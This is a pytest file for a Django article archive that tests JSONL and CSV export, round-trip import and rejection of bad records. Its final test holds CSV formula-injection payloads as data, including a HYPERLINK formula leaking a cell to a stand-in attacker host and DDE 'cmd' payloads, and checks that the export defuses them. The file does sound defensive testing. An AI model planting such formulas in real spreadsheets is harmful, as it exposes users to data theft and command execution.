"""Exports: every article out as JSONL or CSV, and JSONL back in as the same archive."""

import codecs
import csv
import json
from datetime import date
from io import StringIO

import pytest
from django.core.management import call_command

from archive.importing.saving import import_paths
from archive.vocabulary.terms import EXPORT_FIELDS

FIELDS = list(EXPORT_FIELDS)
from archive.models import Article, Source
from tests.helpers import FIXTURES

# What stays the same when an archive is moved (ids and import times are the new archive's).
# An article restored elsewhere gets a new id, and so a new permalink.
KEPT_FIELDS = [f for f in FIELDS if f not in {"id", "permalink", "imported_at"}]

pytestmark = pytest.mark.django_db


def export(*args):
    out = StringIO()
    call_command("export_articles", *args, stdout=out, stderr=StringIO())
    return out.getvalue()


def records(jsonl):
    return {record["original_name"]: record for record in map(json.loads, jsonl.splitlines())}


def empty_the_archive():
    Article.objects.all().delete()
    Source.objects.all().delete()


@pytest.fixture
def seeded_archive():
    """The seed corpus, with one article corrected by an editor."""
    import_paths([FIXTURES])
    article = Article.objects.get(title__startswith="Second International")
    article.published = date(2025, 12, 26)
    article.apply_editor_changes(["published"])
    article.save()


def test_jsonl_export_has_every_field(seeded_archive):
    """Each line is one article with every documented field."""
    lines = export().splitlines()
    assert len(lines) == 5
    for record in map(json.loads, lines):
        assert list(record) == FIELDS
    firstpost = next(r for r in map(json.loads, lines) if r["source"] == "firstpost")
    assert firstpost["published"] == "2025-01-02"
    assert firstpost["subheadings"] == [
        "A key figure in Iran",
        "Heavy losses for Iran’s allies",
        "Deadly memorial service",
    ]
    assert firstpost["original_name"].endswith("004_300fc60aa69f8ce9.txt")


def test_jsonl_round_trip_into_an_empty_archive_keeps_the_metadata(seeded_archive, tmp_path):
    """Export, then import into an empty archive: the same metadata, editor's date included."""
    exported = tmp_path / "archive.jsonl"
    call_command("export_articles", "--output", str(exported), stdout=StringIO(), stderr=StringIO())
    before = records(exported.read_text())
    empty_the_archive()

    result = import_paths([exported])
    assert (len(result.imported), result.rejected) == (5, [])
    after = records(export())
    # Without its original, an article is known by its record, never by the hash it claims.
    kept = [k for k in KEPT_FIELDS if k != "content_hash"]
    for name, record in before.items():
        assert {k: after[name][k] for k in kept} == {k: record[k] for k in kept}
        assert after[name]["content_hash"] != record["content_hash"]
    assert any(r["date_from"] == "editor" for r in after.values())

    assert len(import_paths([exported]).already_present) == 5


def test_export_with_originals_restores_them_byte_for_byte(seeded_archive, tmp_path):
    """--include-originals carries the originals, and the import keeps them again."""
    exported = tmp_path / "full.jsonl"
    call_command(
        "export_articles",
        "--include-originals",
        "--output",
        str(exported),
        stdout=StringIO(),
        stderr=StringIO(),
    )
    before = records(exported.read_text())
    empty_the_archive()
    import_paths([exported])
    for path in FIXTURES.glob("*.txt"):
        article = Article.objects.get(original_name=f"fixtures/{path.name}")
        assert article.original.read() == path.read_bytes()
        assert article.content_hash == before[article.original_name]["content_hash"]


def test_bad_jsonl_lines_are_rejected_by_line_and_the_rest_imported(tmp_path):
    """A broken line, a line without a body and a bad date are each rejected, naming the line."""
    good = {
        "title": "Talks resume",
        "body": "Negotiators met again in Vienna on Monday for talks.",
        "published": "2024-05-06",
    }
    lines = [
        json.dumps(good),
        "{not json",
        json.dumps({"title": "No body"}),
        json.dumps(good | {"title": "Bad date", "published": "May 6"}),
    ]
    path = tmp_path / "mixed.jsonl"
    path.write_text("\n".join(lines))
    result = import_paths([path])
    assert [a.title for a in result.imported] == ["Talks resume"]
    assert [(r.name.rsplit(", ", 1)[1], r.reason.split(" (")[0]) for r in result.rejected] == [
        ("line 2", "not valid JSON"),
        ("line 3", "a record needs a title and a body"),
        ("line 4", "published 'May 6' is not a date"),
    ]


def csv_rows(path):
    """Return the rows of a CSV export at `path`, read as a spreadsheet reads UTF-8 with a BOM."""
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_csv_export_has_the_same_columns(seeded_archive, tmp_path):
    """CSV has a header of the JSONL fields and a row per article; lists are joined."""
    exported = tmp_path / "archive.csv"
    export("--format", "csv", "--output", str(exported))
    rows = csv_rows(exported)
    assert len(rows) == 5
    assert list(rows[0]) == FIELDS
    firstpost = next(row for row in rows if row["source"] == "firstpost")
    assert firstpost["subheadings"].split("\n") == [
        "A key figure in Iran",
        "Heavy losses for Iran’s allies",
        "Deadly memorial service",
    ]
    assert firstpost["review_reasons"] == "title"


def test_csv_export_is_utf8_with_a_byte_order_mark(make_article, tmp_path):
    """The file and standard output start with a BOM, so spreadsheets read accents right."""
    make_article(title="Médecins à Téhéran", source="Le Monde")
    exported = tmp_path / "archive.csv"
    export("--format", "csv", "--output", str(exported))
    assert exported.read_bytes().startswith(codecs.BOM_UTF8 + b"id,permalink,title,")
    assert csv_rows(exported)[0]["title"] == "Médecins à Téhéran"
    assert export("--format", "csv").startswith("\ufeffid,permalink,title,")


def test_csv_cells_a_spreadsheet_would_run_are_text(make_article, tmp_path):
    """A title, source or author starting with = + - @, a tab or a carriage return gets a
    leading ' (a spreadsheet then shows it as text); numbers and plain text stay as they are."""
    article = make_article(
        title='=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
        source="-2+3+cmd|' /C calc'!A0",
        author="@SUM(1+1)*cmd|' /C calc'!A0",
        url="+1+1",
        language="\tde",
        body="\r=1+1 and the rest of the story.",
    )
    make_article(title="Talks resume", source="Reuters", author="Jane Doe")
    exported = tmp_path / "archive.csv"
    export("--format", "csv", "--output", str(exported))
    hostile, plain = csv_rows(exported)
    assert hostile["title"] == '\'=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
    assert hostile["source"] == "'-2+3+cmd|' /C calc'!A0"
    assert hostile["author"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert (hostile["url"], hostile["language"]) == ("'+1+1", "'\tde")
    assert hostile["body"].startswith("'\r=1+1")
    assert (hostile["id"], hostile["word_count"]) == (str(article.pk), str(article.word_count))
    assert (plain["title"], plain["source"], plain["author"]) == (
        "Talks resume",
        "Reuters",
        "Jane Doe",
    )
